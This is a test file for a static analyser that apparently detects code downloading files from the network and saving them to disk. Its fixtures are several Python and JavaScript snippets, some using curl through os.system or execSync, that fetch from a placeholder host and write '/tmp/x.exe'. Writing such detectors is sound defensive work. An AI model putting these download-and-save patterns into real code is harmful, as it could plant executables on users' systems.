import { describe, expect, it } from 'vitest';
import { testBuild } from '../test-build.ts';
import { arrivedFiles } from './arrived-file.ts';

describe('arrivedFiles()', () => {
  it.each([
    [
      'a.py',
      'import requests\nopen("/tmp/x.exe", "wb").write(requests.get("http://a.io").content)',
    ],
    ['a.py', 'from urllib.request import urlretrieve\nurlretrieve("http://a.io", "/tmp/x.exe")'],
    ['a.py', 'import os\nos.system("curl -o /tmp/x.exe http://a.io")'],
    ['a.js', "require('child_process').execSync('curl -o /tmp/x.exe http://a.io')"],
  ])('%s: %s', (path, code) => {
    const [file] = arrivedFiles(testBuild({ [path]: code }));
    expect(file).toMatchObject({ path, names: ['x.exe'] });
    expect(file?.sends.map(({ operand }) => operand.texts[0])).toEqual(['http://a.io']);
  });

  it('finds the request in another file', () => {
    const build = testBuild({
      'a.py': 'import requests\ndef get():\n    return requests.get("http://a.io").content\n',
      'b.py': 'from a import get\nopen("/tmp/x.exe", "wb").write(get())\n',
    });
    expect(arrivedFiles(build)).toMatchObject([{ path: 'b.py', sends: [{ path: 'a.py' }] }]);
  });

  it.each(['open("a", "w").write("b")', 'import os\nos.system("curl http://a.io")'])(
    '%j: none',
    (code) => {
      expect(arrivedFiles(testBuild({ 'a.py': code }))).toEqual([]);
    },
  );

  it('leaves out unknown and very short names', () => {
    const code = 'import requests\nopen(path, "wb").write(requests.get("http://a.io").content)';
    expect(arrivedFiles(testBuild({ 'a.py': code }))).toMatchObject([{ names: [] }]);
  });
});
